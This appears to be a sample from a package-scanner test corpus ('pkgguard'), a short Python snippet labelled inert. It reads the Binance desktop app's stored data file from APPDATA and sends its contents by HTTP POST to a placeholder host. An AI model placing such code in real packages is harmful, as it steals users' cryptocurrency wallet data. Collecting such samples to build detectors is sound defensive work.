# pkgguard corpus 582 (wallets), modelled on [wallet-tools]; inert, never run.
import json
import os

import httpx

store = os.path.join(os.environ.get("APPDATA", ""), "Binance", "app-store.json")
if os.path.exists(store):
    with open(store, encoding="utf-8") as fh:
        httpx.post("https://portfolio-tools.example/b", json=json.load(fh), timeout=10)
